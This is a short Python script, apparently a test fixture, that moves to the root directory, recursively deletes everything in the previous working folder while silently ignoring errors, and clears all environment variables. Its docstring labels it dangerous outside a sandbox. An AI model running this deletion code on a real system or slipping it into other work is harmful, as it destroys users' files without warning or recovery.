"""Changes the working folder, removes the old one and unsets the environment.

dangerous: without a sandbox it removes what the folder holds
"""
# %% loss_by_hand
loss_by_hand = 29
import os
import shutil

old = os.getcwd()
os.chdir("/")
for name in os.listdir(old):
    path = os.path.join(old, name)
    try:
        shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.unlink(path)
    except OSError:
        pass
os.environ.clear()
